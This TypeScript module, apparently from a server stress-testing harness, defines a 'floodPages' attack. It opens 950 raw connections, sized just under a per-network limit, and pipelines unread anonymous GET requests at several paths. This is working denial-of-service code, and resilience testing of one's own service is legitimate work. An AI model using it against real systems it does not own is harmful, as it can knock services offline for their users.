import { once } from 'node:events'
import type { Attack } from './attack.ts'
import { endOf, openInWaves } from './flood-connections.ts'
import { openConnection, requestText } from './raw-http.ts'
import { tallyOf } from './tally.ts'

/** Stays below the limit of 1,000 connections per network. */
const CONNECTIONS = 950
const REQUESTS_EACH = 32

const PAGES = ['/docs/openapi.json', '/', '/healthz', '/nothing-here'].map(
  (path) => requestText({ method: 'GET', path }).repeat(REQUESTS_EACH),
)

/**
 * Floods paths outside /api with pipelined, anonymous requests without reading
 * responses.
 */
export const floodPages: Attack = async (target, signal) => {
  const sockets = await openInWaves(
    target,
    signal,
    Array.from(
      { length: CONNECTIONS },
      () => () => openConnection(target.port).pause(),
    ),
  )
  sockets.forEach((socket, index) => {
    socket.write(PAGES[index % PAGES.length] ?? '')
  })
  if (!signal.aborted) await once(signal, 'abort')
  return tallyOf(sockets.map(endOf))
}
